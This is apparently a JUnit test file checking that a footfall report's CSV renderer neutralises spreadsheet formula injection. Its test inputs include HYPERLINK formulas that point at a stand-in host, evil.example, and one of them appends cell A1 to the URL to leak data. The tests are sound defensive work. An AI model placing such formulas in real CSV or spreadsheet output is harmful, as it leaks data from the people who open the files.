package io.footfall.report;

import io.footfall.schema.WireRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static io.footfall.report.ReportBuilderTest.OPEN;
import static io.footfall.report.ReportBuilderTest.aggregate;
import static org.assertj.core.api.Assertions.assertThat;

/** What the report's CSV files hold, cell by cell, as a spreadsheet would open them. */
class CsvRendererTest {

    @Test
    void textThatASpreadsheetWouldRunAsAFormulaGetsALeadingQuoteAndNumbersStayNumbers() {
        assertThat(CsvRenderer.join("=1+2", "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx", "door", "a=b", -3, -1.5, "-3",
                "-0.250", ""))
                .isEqualTo("'=1+2,'+1+1,'-2+3,'@SUM(1),'\tx,\"'\rx\",door,a=b,-3,-1.5,-3,-0.250,");
        // RFC 4180 quoting still applies around the neutralised text.
        assertThat(CsvRenderer.join("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
    }

    @Test
    void namesFromUnvalidatedRecordsCannotInjectFormulasIntoAnyFile(@TempDir Path dir) throws Exception {
        String camera = "=HYPERLINK(\"http://evil.example/\",\"Click\")";
        WireRecord a = aggregate(camera, OPEN, 1_800_000, 1, 0, 0.5);
        WireRecord b = aggregate(camera, OPEN.plusSeconds(7200), 3_600_000, 2, 1, 1); // 09:00 not reported
        FootfallReport r = ReportBuilder.build(new ReportInput("store-7", "test", List.of(a, b), List.of()),
                ReportOptions.utc());

        List<Path> files = CsvRenderer.write(r, dir);

        String quotedCamera = "\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"Click\"\")\"";
        assertThat(Files.readAllLines(dir.resolve("footfall-hourly.csv")))
                .contains("2026-11-25,8,+00:00," + quotedCamera + ",1,0,1800,0.500");
        assertThat(Files.readAllLines(dir.resolve("footfall-daily.csv")))
                .contains("2026-11-25," + quotedCamera + ",3,1,5400,1");
        assertThat(Files.readAllLines(dir.resolve("missing.csv"))).allSatisfy(line -> assertThat(line)
                .satisfiesAnyOf(l -> assertThat(l).startsWith("camera,"), l -> assertThat(l).startsWith(quotedCamera)));
        for (Path f : files) {
            assertThat(Files.readString(f)).as(f.toString()).doesNotContain(",=").doesNotContain("\"=")
                    .doesNotContainPattern("(?m)^=");
        }
    }
}
